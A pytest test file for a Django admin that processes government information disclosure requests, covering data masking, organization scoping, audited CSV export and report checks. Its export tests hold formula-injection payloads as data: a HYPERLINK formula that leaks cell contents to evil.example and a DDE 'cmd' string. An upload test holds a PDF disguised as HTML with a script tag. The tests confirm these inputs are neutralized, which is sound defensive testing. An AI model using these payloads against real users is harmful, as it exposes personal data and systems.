import datetime

import pytest
from django.contrib.auth.models import Permission
from django.core.exceptions import PermissionDenied
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from applications.choices import RequestState
from applications.models import InformationRequest
from disclosure.models import AuditEntry, CalendarOverride
from reports.models import AnnualReport
from tests.factories import (
    applicant_fields,
    make_organization,
    make_request,
    make_request_handler,
    make_user,
    tiny_pdf,
)

pytestmark = pytest.mark.django_db
D = datetime.date


def staff(client, *codenames):
    """A clerk of every organization: these tests are about the steps; the organization scope
    is tested with the role groups below."""
    user = make_user(is_staff=True)
    for codename in (*codenames, "access_all_organizations"):
        user.user_permissions.add(Permission.objects.get(codename=codename))
    client.force_login(user)
    return user


REQUEST_PERMS = ("view_informationrequest", "change_informationrequest", "add_informationrequest")
CHANGELIST = reverse("admin:applications_informationrequest_changelist")


def test_list_and_export_mask_personal_data_without_the_permission(client):
    make_request(received_on=D(2020, 9, 30))
    staff(client, *REQUEST_PERMS, "export_requests")
    page = client.get(CHANGELIST).content.decode()
    assert "139****5678" in page and "110105********002X" in page
    assert "13912345678" not in page and "11010519491231002X" not in page
    export = client.post(
        CHANGELIST,
        {
            "action": "export_csv",
            "_selected_action": InformationRequest.objects.values_list("pk", flat=True),
        },
    )
    body = _body(export)
    assert "139****5678" in body and "13912345678" not in body
    assert AuditEntry.objects.filter(action="export").exists()


def test_list_shows_personal_data_with_the_permission(client):
    make_request(received_on=D(2020, 9, 30))
    staff(client, *REQUEST_PERMS, "view_request_personal_data")
    page = client.get(CHANGELIST).content.decode()
    assert "13912345678" in page and "11010519491231002X" in page


def test_dashboard_counts_overdue_requests(client):
    make_request(received_on=D(2020, 9, 30))
    staff(client, *REQUEST_PERMS)
    page = client.get(CHANGELIST).content.decode()
    assert "已逾期:1 件" in page
    assert "已逾期" in client.get(CHANGELIST + "?deadline=overdue").content.decode()


def register_data(org, **extra):
    data = dict(applicant_fields())
    data.update(
        {
            "organization": org.pk,
            "channel": "mail",
            "submitted_on": "2020-09-25",
            "medium": "paper",
            "delivery": "post",
            "organization_kind": "",
            "organization_code": "",
        }
    )
    data.update(extra)
    return data


def test_staff_register_a_posted_request_with_the_date_signed_for(client):
    org = make_organization()
    staff(client, *REQUEST_PERMS)
    url = reverse("admin:applications_informationrequest_add")
    response = client.post(url, register_data(org))
    assert response.status_code == 200
    assert "签收日期" in response.content.decode()
    assert not InformationRequest.objects.exists()
    response = client.post(url, register_data(org, signed_for_on="2020-09-30"))
    assert response.status_code == 302, response.content.decode()[:3000]
    request = InformationRequest.objects.get()
    assert request.received_on == D(2020, 9, 30) and request.due_on == D(2020, 11, 4)
    assert request.events.count() == 1


def test_answer_step_without_reply_type_shows_the_message_and_saves_nothing(client):
    request = make_request(received_on=D(2020, 9, 30))
    staff(client, *REQUEST_PERMS)
    url = reverse("admin:applications_informationrequest_step", args=[request.pk, "answer"])
    response = client.post(url, {"reply_type": "", "replied_on": "2020-10-20"})
    assert "未选择答复类型不能答复" in response.content.decode()
    request.refresh_from_db()
    assert request.state == RequestState.RECEIVED
    response = client.post(
        url, {"reply_type": "disclosed", "replied_on": "2020-10-20", "letter": ""}
    )
    assert response.status_code == 302
    request.refresh_from_db()
    assert request.state == RequestState.ANSWERED and "予以公开" in request.reply_letter
    change = client.get(reverse("admin:applications_informationrequest_change", args=[request.pk]))
    assert "办结" in change.content.decode()


def test_annual_report_submit_action_reports_mismatches(client, vocabulary):
    user = staff(client, "view_annualreport", "change_annualreport", "submit_record")
    report = AnnualReport.objects.create(
        organization=make_organization(), year=2023, review_upheld=1, review_total=0
    )
    changelist = reverse("admin:reports_annualreport_changelist")
    client.post(changelist, {"action": "refresh", "_selected_action": [report.pk]})
    response = client.post(
        changelist, {"action": "submit", "_selected_action": [report.pk]}, follow=True
    )
    assert (
        "行政复议:总计(0)不等于维持、纠正、其他结果、尚未审结之和(1)" in response.content.decode()
    )
    report.refresh_from_db()
    assert report.status == "draft" and report.record is None
    page = client.get(reverse("admin:reports_annualreport_change", args=[report.pk]))
    assert "结转下年度继续办理" in page.content.decode()
    assert "生成公开信息并提交审核" in client.get(changelist).content.decode()
    assert user.pk


def test_calendar_overrides_are_editable_in_the_admin(client):
    staff(client, "view_calendaroverride", "add_calendaroverride")
    response = client.post(
        reverse("admin:disclosure_calendaroverride_add"),
        {"date": "2030-01-01", "is_workday": "", "note": "元旦"},
    )
    assert response.status_code == 302
    assert CalendarOverride.objects.get().is_workday is False


def test_reply_letter_can_be_edited_after_answering(client):
    from applications.services import answer_request

    request = make_request(received_on=D(2020, 9, 30))
    user = staff(client, *REQUEST_PERMS)
    answer_request(request=request, actor=user, reply_type="disclosed", replied_on=D(2020, 10, 9))
    url = reverse("admin:applications_informationrequest_step", args=[request.pk, "letter"])
    assert "予以公开" in client.get(url).content.decode()
    assert client.post(url, {"letter": "张三:经审查,予以公开。"}).status_code == 302
    request.refresh_from_db()
    assert request.reply_letter == "张三:经审查,予以公开。"
    assert request.state == RequestState.ANSWERED


def test_saving_a_draft_report_recomputes_table_three(client):
    org = make_organization()
    make_request(organization=org, received_on=D(2023, 3, 1))
    staff(client, "view_annualreport", "add_annualreport", "change_annualreport")
    response = client.post(
        reverse("admin:reports_annualreport_add"),
        {
            "organization": org.pk,
            "year": 2023,
            "fees_amount": "0",
            **{
                f"{group}_{part}": 0
                for group in ("review", "suit", "suit_after_review")
                for part in ("upheld", "corrected", "other", "pending", "total")
            },
            "licensing_decisions": 0,
            "punishment_decisions": 0,
            "coercion_decisions": 0,
        },
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    report = AnnualReport.objects.get()
    assert report.table_three["new"][-1] == 1 and report.table_three["carried_out"][-1] == 1


def test_attachment_download_needs_the_personal_data_permission(client):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from applications.choices import ReceiptChannel
    from applications.services import register_request

    pdf = tiny_pdf()
    request = register_request(
        actor=make_request_handler(),
        organization=make_organization(),
        channel=ReceiptChannel.IN_PERSON,
        fields=applicant_fields(),
        submitted_on=D(2020, 9, 30),
        attachment=SimpleUploadedFile("身份证.pdf", pdf),
    )
    url = reverse("admin:applications_informationrequest_attachment", args=[request.pk])
    staff(client, *REQUEST_PERMS)
    change = reverse("admin:applications_informationrequest_change", args=[request.pk])
    assert url not in client.get(change).content.decode()
    assert client.get(url).status_code == 403
    staff(client, *REQUEST_PERMS, "view_request_personal_data")
    assert url in client.get(change).content.decode()
    response = client.get(url)
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == pdf
    entry = AuditEntry.objects.get(action="export", object_id=str(request.pk))
    assert entry.ip == "127.0.0.1"


# --- organization scope (issue 13, item 5) -------------------------------------------------


@pytest.fixture
def two_bureaus():
    """无锡 with a department below it, and 宜兴 beside it."""
    from disclosure.roles import REVIEWER
    from tests.factories import make_staff

    wuxi = make_organization(name="无锡市教育局")
    office = make_organization(name="无锡市教育局办公室", parent=wuxi)
    yixing = make_organization(name="宜兴市教育局")
    reviewer = make_staff(REVIEWER, organization=wuxi)
    own = make_request(organization=office, received_on=D(2020, 9, 30), applicant_name="无锡申请人")
    other = make_request(
        organization=yixing,
        received_on=D(2020, 9, 30),
        applicant_name="宜兴申请人",
        id_number="320282198503070016",
        phone="13800138000",
    )
    return reviewer, own, other, yixing


def test_a_reviewer_lists_only_requests_of_their_organization(client, two_bureaus):
    reviewer, own, other, _ = two_bureaus
    client.force_login(reviewer)
    page = client.get(CHANGELIST).content.decode()
    assert own.tracking_number in page
    assert other.tracking_number not in page and "320282198503070016" not in page
    assert "已逾期:1 件" in page  # both are overdue; only their own is counted
    assert "已受理 1 件" in page
    overdue = client.get(CHANGELIST + "?deadline=overdue").content.decode()
    assert other.tracking_number not in overdue


def test_a_reviewer_of_another_organization_cannot_open_the_request(client, two_bureaus):
    reviewer, own, other, _ = two_bureaus
    client.force_login(reviewer)
    for name in ("change", "history"):
        assert client.get(reverse(f"admin:applications_informationrequest_{name}", args=[own.pk]))
        url = reverse(f"admin:applications_informationrequest_{name}", args=[other.pk])
        response = client.get(url)
        assert response.status_code == 404, name
        assert b"320282198503070016" not in response.content


@pytest.mark.parametrize(
    ("step", "data"),
    [
        ("correction", {"notice": "请补充", "correction_due_on": "2099-01-01"}),
        ("correction-received", {"received_on": "2020-10-09"}),
        ("consultation-start", {"started_on": "2020-10-09", "note": ""}),
        ("consultation-end", {"ended_on": "2020-10-12", "note": ""}),
        ("extend", {"days": 5, "reason": "需要时间"}),
        ("answer", {"reply_type": "disclosed", "replied_on": "2020-10-09", "letter": "x"}),
        ("letter", {"letter": "改过的答复书"}),
        ("close", {"note": "办结"}),
    ],
)
def test_a_reviewer_of_another_organization_cannot_take_any_step(client, two_bureaus, step, data):
    reviewer, _, other, _ = two_bureaus
    client.force_login(reviewer)
    url = reverse("admin:applications_informationrequest_step", args=[other.pk, step])
    assert client.get(url).status_code == 404
    assert client.post(url, data).status_code == 404
    other.refresh_from_db()
    assert other.state == RequestState.RECEIVED and other.events.count() == 1


def test_a_reviewer_of_another_organization_cannot_download_the_attachment(client, two_bureaus):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from applications.choices import ReceiptChannel
    from applications.services import register_request

    reviewer, _, _, yixing = two_bureaus
    request = register_request(
        actor=make_request_handler(),
        organization=yixing,
        channel=ReceiptChannel.IN_PERSON,
        fields=applicant_fields(),
        submitted_on=D(2020, 9, 30),
        attachment=SimpleUploadedFile("身份证.pdf", tiny_pdf()),
    )
    client.force_login(reviewer)
    url = reverse("admin:applications_informationrequest_attachment", args=[request.pk])
    assert client.get(url).status_code == 404


def test_the_export_leaves_out_requests_of_other_organizations(client, two_bureaus):
    reviewer, own, other, _ = two_bureaus
    client.force_login(reviewer)
    response = client.post(
        CHANGELIST, {"action": "export_csv", "_selected_action": [own.pk, other.pk]}
    )
    body = _body(response)
    assert own.tracking_number in body
    assert other.tracking_number not in body and "320282198503070016" not in body


def test_a_request_cannot_be_registered_for_another_organization(client, two_bureaus):
    reviewer, _, _, yixing = two_bureaus
    client.force_login(reviewer)
    before = InformationRequest.objects.count()
    response = client.post(
        reverse("admin:applications_informationrequest_add"),
        register_data(yixing, signed_for_on="2020-09-28"),
    )
    assert response.status_code == 200
    assert "organization" in response.context["adminform"].form.errors
    assert InformationRequest.objects.count() == before


def test_registering_a_request_with_a_disguised_pdf_shows_the_error_and_saves_nothing(
    client, two_bureaus
):
    reviewer, _, _, _ = two_bureaus
    wuxi = reviewer.staff_profile.organization
    client.force_login(reviewer)
    before = InformationRequest.objects.count()
    data = register_data(wuxi, signed_for_on="2020-09-28")
    data["attachment"] = SimpleUploadedFile(
        "身份证.pdf", b"%PDF-1.7\n<html><script>alert(1)</script></html>"
    )
    response = client.post(reverse("admin:applications_informationrequest_add"), data)
    assert response.status_code == 200
    assert "不是有效的 PDF 文件" in str(response.context["adminform"].form.errors["attachment"])
    assert InformationRequest.objects.count() == before


def _body(response) -> str:
    content = (
        b"".join(response.streaming_content)
        if getattr(response, "streaming", False)
        else response.content
    )
    return content.decode("utf-8-sig")


# --- the export (issue 13, item 3) ----------------------------------------------------------

FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&C2,"点击核对")'


def export(client, *requests, **extra):
    return client.post(
        CHANGELIST,
        {"action": "export_csv", "_selected_action": [r.pk for r in requests]},
        REMOTE_ADDR="10.20.30.40",
        **extra,
    )


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_export_neutralizes_formulas_in_applicant_fields(client, prefix):
    import csv
    import io

    name = FORMULA_NAME if prefix == "=" else prefix + "cmd|' /C calc'!A0"
    request = make_request(received_on=D(2020, 9, 30), applicant_name=name)
    staff(client, *REQUEST_PERMS, "export_requests", "view_request_personal_data")
    rows = list(csv.reader(io.StringIO(_body(export(client, request)))))
    assert rows[0][:4] == ["申请编号", "申请人", "证件号码", "联系电话"]
    assert rows[1][1] == "'" + name
    assert rows[1][2] == "11010519491231002X"  # full: the exporter may see personal data


def test_export_is_audited_with_the_ip_and_whether_numbers_were_full(client):
    request = make_request(received_on=D(2020, 9, 30))
    user = staff(client, *REQUEST_PERMS, "export_requests")
    _body(export(client, request))
    entry = AuditEntry.objects.filter(action="export").latest("id")
    assert entry.actor == user and entry.ip == "10.20.30.40"
    assert entry.details["what"] == "information_requests"
    assert entry.details["rows"] == 1 and entry.details["filters"] == {"personal_data": False}


@pytest.mark.parametrize("role", ["发布", "编制"])
def test_roles_without_the_export_permission_get_no_file(client, role):
    from disclosure.roles import ensure_role_groups
    from tests.factories import make_staff

    ensure_role_groups()
    org = make_organization()
    request = make_request(organization=org, received_on=D(2020, 9, 30))
    user = make_staff(role, organization=org)
    user.user_permissions.add(Permission.objects.get(codename="view_informationrequest"))
    client.force_login(user)
    response = export(client, request)
    assert response.get("Content-Disposition") is None
    assert "申请编号,申请人" not in _body(response)
    assert not AuditEntry.objects.filter(action="export").exists()
    # and the action is not offered
    assert "export_csv" not in client.get(CHANGELIST).content.decode()


def test_export_action_refuses_a_direct_call_without_the_permission(rf):
    from django.contrib.admin.sites import site

    request = make_request(received_on=D(2020, 9, 30))
    http = rf.post(CHANGELIST, REMOTE_ADDR="10.9.9.9")
    http.user = make_user(is_staff=True)
    admin = site._registry[InformationRequest]
    with pytest.raises(PermissionDenied):
        admin.export_csv(http, InformationRequest.objects.filter(pk=request.pk))
    denied = AuditEntry.objects.get(action="permission_denied")
    assert denied.ip == "10.9.9.9" and denied.details == {"attempted": "export_requests"}


@pytest.mark.parametrize(
    ("role", "allowed"), [("审核", True), ("审计", True), ("发布", False), ("编制", False)]
)
def test_the_export_permission_belongs_to_the_reviewers_and_auditors(role, allowed):
    from tests.factories import make_staff

    assert make_staff(role).has_perm("applications.export_requests") is allowed


def test_the_extension_form_offers_only_approvers_of_the_organization_or_above(client, two_bureaus):
    from disclosure.roles import PUBLISHER
    from tests.factories import make_staff

    reviewer, own, _, yixing = two_bureaus
    head = make_staff(PUBLISHER, organization=reviewer.staff_profile.organization)
    stranger = make_staff(PUBLISHER, organization=yixing)
    client.force_login(reviewer)
    url = reverse("admin:applications_informationrequest_step", args=[own.pk, "extend"])
    choices = client.get(url).context["form"].fields["approver"].queryset
    assert head in choices and stranger not in choices
    response = client.post(url, {"days": 5, "reason": "需要时间", "approver": stranger.pk})
    assert response.status_code == 200 and "approver" in response.context["form"].errors
    own.refresh_from_db()
    assert own.extension_days == 0


# --- registering a paper / in-person request (issue 18, item 3) ----------------------------


def _add_page_data(client, org, **extra):
    """The add page's own form data, inline management forms included, as a browser posts it."""
    url = reverse("admin:applications_informationrequest_add")
    page = client.get(url)
    assert page.status_code == 200
    data = register_data(org, **extra)
    for formset in page.context["inline_admin_formsets"]:
        management = formset.formset.management_form
        for name, field in management.fields.items():
            data[management.add_prefix(name)] = management.initial.get(name, field.initial)
    return url, data


@pytest.mark.parametrize("who", ["reviewer", "superuser"])
def test_a_paper_request_is_registered_by_the_reviewer_and_the_superuser(client, who):
    from disclosure.roles import REVIEWER
    from tests.factories import make_staff

    org = make_organization(name="无锡市教育局")
    if who == "reviewer":
        user = make_staff(REVIEWER, organization=org)
    else:
        user = make_user(is_staff=True, is_superuser=True)
    client.force_login(user)
    url, data = _add_page_data(client, org, channel="in_person")
    response = client.post(url, data)
    assert response.status_code == 302, response.content.decode()[:2000]
    request = InformationRequest.objects.get()
    assert request.channel == "in_person" and request.received_on == D(2020, 9, 25)
    assert request.created_by == user
    assert [e.note for e in request.events.all()] == ["登记当面提交申请"]
    assert AuditEntry.objects.filter(action="request_register", object_id=str(request.pk)).exists()


@pytest.mark.parametrize("who", ["reviewer", "superuser"])
def test_registering_with_an_invalid_id_number_saves_nothing(client, who):
    from disclosure.roles import REVIEWER
    from tests.factories import make_staff

    org = make_organization(name="无锡市教育局")
    if who == "reviewer":
        user = make_staff(REVIEWER, organization=org)
    else:
        user = make_user(is_staff=True, is_superuser=True)
    client.force_login(user)
    url, data = _add_page_data(client, org, channel="in_person", id_number="110105194912310021")
    response = client.post(url, data)
    assert response.status_code == 200
    assert "id_number" in response.context["adminform"].form.errors
    assert not InformationRequest.objects.exists()


def test_the_correction_step_refuses_a_notice_dated_before_receipt(client):
    request = make_request(received_on=D(2020, 9, 30))
    staff(client, *REQUEST_PERMS)
    url = reverse("admin:applications_informationrequest_step", args=[request.pk, "correction"])
    data = {"notice": "请说明年份", "notice_date": "2020-09-28", "correction_due_on": "2020-10-20"}
    response = client.post(url, data)
    assert response.status_code == 200
    assert "不能早于收到申请日期" in response.content.decode()
    request.refresh_from_db()
    assert request.state == RequestState.RECEIVED and request.events.count() == 1
    response = client.post(url, {**data, "notice_date": "2020-10-09"})
    assert response.status_code == 302
    request.refresh_from_db()
    assert request.correction_requested_on == D(2020, 10, 9)
